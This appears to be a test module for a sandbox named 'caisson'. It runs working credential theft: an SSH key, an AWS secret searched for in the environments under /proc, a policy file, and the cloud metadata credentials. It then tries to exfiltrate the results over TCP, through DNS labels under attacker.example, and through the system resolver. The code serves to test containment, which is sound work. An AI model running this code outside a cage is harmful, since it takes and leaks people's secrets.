"""The attempts. Plain Python, no caisson: the control runs the same code.

As a program it prints one JSON line an attempt.
"""

import json
import os
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

WANTED = "AWS_SECRET_ACCESS_KEY"
METADATA = ("169.254.169.254", 80)


class Attempt(NamedTuple):
    """One way of stealing, whether it paid, and what was seen."""

    attempt: str
    target: str
    taken: bool
    detail: str


def attempts(home: str, policy: str, attacker_port: int, resolver_port: int) -> Iterator[Attempt]:
    """Tries everything, in the order of a careful thief: first take, then carry away."""
    loot: list[str] = []

    def attempt(name: str, target: str, take: Callable[[], str]) -> Attempt:
        try:
            found = take()
        except Exception as refused:
            return Attempt(name, target, False, f"{type(refused).__name__}: {refused}")
        loot.append(found)
        return Attempt(name, target, True, f"{len(found)} characters")

    yield attempt("home", f"{home}/.ssh/id_ed25519", lambda: Path(home, ".ssh/id_ed25519").read_text())
    yield attempt("environ", "/proc/*/environ", environ)
    yield attempt("policy", policy, lambda: Path(policy).read_text())
    # With empty hands it tries the ways out all the same.
    hands = "".join(loot) or "nothing yet, but the way is open"
    yield attempt("dial", f"127.0.0.1:{attacker_port}", lambda: dial(attacker_port, hands))
    yield attempt("dns", f"127.0.0.1:{resolver_port}/udp", lambda: query(resolver_port, hands))
    yield attempt("name", "<loot>.attacker.example", lambda: name(hands))
    yield attempt("metadata", f"{METADATA[0]}:{METADATA[1]}", metadata)


def environ() -> str:
    """A secret out of our environment, or of any process that we can see."""
    if WANTED in os.environ:
        return os.environ[WANTED]
    for entry in Path("/proc").glob("[0-9]*/environ"):
        try:
            content = entry.read_bytes()
        except OSError:
            continue
        for variable in content.split(b"\0"):
            if variable.startswith(WANTED.encode()):
                return variable.decode()
    raise LookupError(f"no {WANTED} in any environment")


def dial(port: int, loot: str) -> str:
    """Brings loot to the attacker over TCP."""
    with socket.create_connection(("127.0.0.1", port), 3) as way:
        way.sendall(loot.encode())
        way.shutdown(socket.SHUT_WR)
        # Whoever relays us may close at once: then nothing arrived.
        way.settimeout(3)
        way.recv(1)
    return loot


def query(port: int, loot: str) -> str:
    """Brings loot in the labels of a name, to a name server of our own."""
    labels = [loot.encode().hex()[:60], "attacker", "example"]
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(3)
        way.connect(("127.0.0.1", port))
        way.send(b"\x13\x37\x01\0\0\x01\0\0\0\0\0\0" + question)
        way.recv(512)
    return loot


def caged() -> None:
    """Stops what would do real harm outside: the control's resolver is a real
    one, and its cloud has real credentials."""
    if "caisson._native" not in sys.modules:
        raise LookupError("not tried outside a cage")


def name(loot: str) -> str:
    """Brings loot in a name that the system's resolver is asked for."""
    caged()
    socket.getaddrinfo(loot.encode().hex()[:60] + ".attacker.example", 80)
    return loot


def metadata() -> str:
    """The cloud's credentials, where there is a cloud."""
    caged()
    with socket.create_connection(METADATA, 2) as way:
        way.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
        way.settimeout(2)
        answer = way.recv(4096).decode("latin-1")
    if not answer:
        raise ConnectionError("closed without an answer")
    return answer


if __name__ == "__main__":
    for tried in attempts(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])):
        print(json.dumps(tried._asdict()))
